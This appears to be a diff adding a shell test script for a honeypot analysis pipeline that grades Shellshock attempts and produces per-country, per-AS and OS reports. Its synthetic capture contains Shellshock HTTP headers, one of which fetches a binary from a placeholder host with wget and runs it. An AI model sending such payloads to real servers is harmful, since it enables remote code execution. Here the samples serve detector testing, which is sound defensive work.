@@ -1,0 +1,140 @@
+#!/bin/bash
+# e2e_report.sh - the whole pipe: a generated capture with known content ->
+# the real tshark with the plugin built here (and AS/country databases built
+# for the test) -> honeyshark-report, in both ek layouts, and through
+# honeyshark-batch (capture cut into chunks, parallel tshark, merge).
+#
+# Expected tables were worked out by hand from the capture script below:
+#   A 203.0.113.5 (AS 64500, JP), B 198.18.0.7 (AS 64501, CN),
+#   C 100.64.0.1 (in no database); sensor 192.0.2.10; days in Japan time.
+source "$HS_SOURCE_DIR/tests/e2e/lib.sh"
+hs_setup
+
+hs_require_plugin shellshock src
+BIN=${HSR_BIN:-$HS_BUILD_DIR/postproc/honeyshark-report}
+BATCH=$HS_SOURCE_DIR/postproc/honeyshark-batch
+
+DB=$HS_TMP/db
+mkdir -p "$DB"
+cat >"$DB/asn.json" <<'JSON'
+{ "database_type": "GeoLite2-ASN", "ip_version": 6,
+  "networks": {
+    "203.0.113.0/24": {"autonomous_system_number": 64500, "autonomous_system_organization": "Example Net A"},
+    "198.18.0.0/15": {"autonomous_system_number": 64501, "autonomous_system_organization": "Example B"} } }
+JSON
+cat >"$DB/country.json" <<'JSON'
+{ "database_type": "GeoLite2-Country", "ip_version": 6,
+  "networks": {
+    "203.0.113.0/24": {"country": {"iso_code": "JP", "names": {"en": "Japan"}}},
+    "198.18.0.0/15": {"country": {"iso_code": "CN", "names": {"en": "China"}}} } }
+JSON
+for n in asn country; do
+    perl "$HS_SOURCE_DIR/tests/tools/mkmmdb.pl" "$DB/$n.json" "$DB/$n.mmdb" >/dev/null ||
+        { echo "FATAL: mkmmdb.pl failed for $n" >&2; exit 1; }
+done
+chmod -R a+rX "$DB"
+DBOPTS=(-o "src.asn_db:$DB/asn.mmdb" -o "src.country_db:$DB/country.mmdb")
+
+# 2024-03-01 14:59:50Z = 23:59:50 JST: A's first SYN is on March 1st (JST),
+# everything else on March 2nd.
+hs_gencap rep <<'EOF2'
+time 1709305190
+step 0.001
+syn 203.0.113.5:40000 192.0.2.10:23
+wait 20
+syn 203.0.113.5:40001 192.0.2.10:23
+syn 203.0.113.5:40001 192.0.2.10:23
+tcp 203.0.113.5:40002 192.0.2.10:80
+c "GET /cgi-bin/x HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86\"\r\nReferer: () { :; }; echo hi\r\n\r\n" @red
+close
+tcp 198.18.0.7:40003 192.0.2.10:80
+c "GET / HTTP/1.0\r\nUser-Agent: () { :;}; /bin/ping -c1 10.246.50.2\r\n\r\n" @yellow
+close
+udp 198.18.0.7:5000 192.0.2.10:53 "q"
+icmp 100.64.0.1 192.0.2.10
+EOF2
+
+FIELDS=()
+for f in frame.time_epoch ip.src ip.dst ip.proto ipv6.src ipv6.dst ipv6.nxt tcp.dstport \
+    tcp.flags udp.dstport icmp.type icmpv6.type shellshock.grade src.asn src.as_org \
+    src.country src.country_name src.os src.os_class; do FIELDS+=(-e "$f"); done
+hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" >"$HS_TMP/e.ek" 2>"$HS_TMP/e.err" ||
+    { echo "FATAL: tshark -T ek -e failed" >&2; cat "$HS_TMP/e.err" >&2; exit 1; }
+hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek >"$HS_TMP/full.ek" 2>"$HS_TMP/full.err" ||
+    { echo "FATAL: tshark -T ek failed" >&2; cat "$HS_TMP/full.err" >&2; exit 1; }
+hs_eq "the plugin graded the two requests in the ek" "$(grep -c shellshock_grade "$HS_TMP/e.ek")" 2
+
+S=(--tz Asia/Tokyo --sensor-by dst --sensor honeypot=192.0.2.10)
+rep() { "$BIN" "${S[@]}" -f csv "$@" 2>"$HS_TMP/rep.err" | tr -d "\r"; }
+
+# Frames towards the sensor, by tshark's own count: the report must agree.
+towards=$(hs_count rep 'ip.dst == 192.0.2.10')
+total=$(hs_count rep 'frame')
+for layout in e full; do
+    out=$(rep -r timeline "$HS_TMP/$layout.ek" | tail -1)
+    hs_eq "$layout: timeline total = frames towards the sensor ($towards of $total)" \
+        "$out" "total,$towards,2,0,1,1"
+    hs_eq "$layout: country" "$(rep -r country "$HS_TMP/$layout.ek" | cut -d, -f1-8)" \
+"country,name,attempts,share,green,yellow,red,attacking_sources
+JP,Japan,1,50.0,0,0,1,1
+CN,China,1,50.0,0,1,0,1
+unknown,unknown,0,0.0,0,0,0,0
+total,,2,100.0,0,1,1,2"
+    hs_eq "$layout: grades" "$(rep -r grades "$HS_TMP/$layout.ek")" \
+"asn,as_org,bucket,green,yellow,red,attempts
+64500,Example Net A,2024-03-02,0,0,1,1
+64501,Example B,2024-03-02,0,1,0,1
+total,,,0,1,1,2"
+    # A: SYNs to 23 (three) and the handshake SYN to 80; B has no attempt to 23.
+    hs_eq "$layout: multiport" "$(rep -r multiport "$HS_TMP/$layout.ek")" \
+"rank,source,country,asn,as_org,attempts,attempts:tcp/23,attempts:other,other_ports,top_other
+1,203.0.113.5,JP,64500,Example Net A,4,3,1,1,tcp/80:1"
+    hs_eq "$layout: as-time rows" "$(rep "$HS_TMP/$layout.ek" | cut -d, -f1-3,5-9 | sed -n 1,4p)" \
+"bucket,asn,as_org,sources,attempts,green,yellow,red
+2024-03-01,64500,Example Net A,1,0,0,0,0
+2024-03-02,64500,Example Net A,1,1,0,0,1
+2024-03-02,64501,Example B,1,1,0,1,0"
+    hs_eq "$layout: as-time: A's first day is one SYN" \
+        "$(rep "$HS_TMP/$layout.ek" | sed -n 2p | cut -d, -f4,10)" "1,tcp/23:1"
+    # p0f (the plugin's built-in signatures) labels the handshake SYNs to 80.
+    hs_eq "$layout: os" "$(rep -r os "$HS_TMP/$layout.ek" | cut -d, -f1-5)" \
+"os,class,syns,share,sources
+(no match),unknown,3,60.0,1
+Linux 2.2.x-3.x (barebone),unix,2,40.0,2
+total,,5,100.0,2"
+done
+for r in as-time country ports timeline grades as-ports multiport os; do
+    rep -r "$r" "$HS_TMP/e.ek" >"$HS_TMP/a.csv"
+    rep -r "$r" "$HS_TMP/full.ek" >"$HS_TMP/b.csv"
+    hs_eq "$r: full layout = -e layout" "$(cmp -s "$HS_TMP/a.csv" "$HS_TMP/b.csv" && echo same)" same
+done
+
+# Straight from tshark's stdout, as the README shows it.
+piped=$(hs_tshark -r "$HS_TMP/rep.pcap" "${DBOPTS[@]}" -T ek "${FIELDS[@]}" 2>/dev/null |
+    "$BIN" "${S[@]}" -f csv -r country | sed -n 2p | cut -d, -f1-3)
+hs_eq "tshark | honeyshark-report" "$piped" "JP,Japan,1"
+
+# honeyshark-batch: the capture cut into chunks of 7 frames, 2 jobs, merged.
+cat >"$HS_TMP/tshark-wrap" <<WRAP
+#!/bin/bash
+export HOME="$HS_TMP/home" XDG_CONFIG_HOME="$HS_TMP/home/.config" WIRESHARK_PLUGIN_DIR="$HS_PLUGIN_DIR" LC_ALL=C.UTF-8
+if [ "\$(id -u)" = 0 ]; then exec runuser -u nobody -- env HOME="\$HOME" XDG_CONFIG_HOME="\$XDG_CONFIG_HOME" WIRESHARK_PLUGIN_DIR="\$WIRESHARK_PLUGIN_DIR" LC_ALL=C.UTF-8 tshark "\$@"; fi
+exec tshark "\$@"
+WRAP
+chmod 755 "$HS_TMP/tshark-wrap"
+for r in as-time country timeline grades multiport; do
+    TSHARK=$HS_TMP/tshark-wrap HONEYSHARK_REPORT=$BIN bash "$BATCH" -j 2 -c 7 -w "$HS_TMP/work" \
+        --tshark-arg -o --tshark-arg "src.asn_db:$DB/asn.mmdb" \
+        --tshark-arg -o --tshark-arg "src.country_db:$DB/country.mmdb" \
+        -z Asia/Tokyo --sensor-by dst --sensor honeypot=192.0.2.10 "$HS_TMP/rep.pcap" \
+        -- -r "$r" -f csv >"$HS_TMP/batch.raw" 2>"$HS_TMP/batch.err"
+    rc=$?
+    tr -d '\r' <"$HS_TMP/batch.raw" >"$HS_TMP/batch.csv"
+    rep -r "$r" "$HS_TMP/e.ek" >"$HS_TMP/direct.csv"
+    [ $rc = 0 ] || cat "$HS_TMP/batch.err"
+    hs_eq "batch ($r, chunks of 7 frames) = one run (exit $rc)" \
+        "$(cmp -s "$HS_TMP/batch.csv" "$HS_TMP/direct.csv" && echo same)" same
+done
+pieces=$(ls "$HS_TMP/work"/piece*.state | wc -l)
+hs_eq "batch cut the capture into $(((total + 6) / 7)) pieces" "$pieces" "$(((total + 6) / 7))"
+hs_done
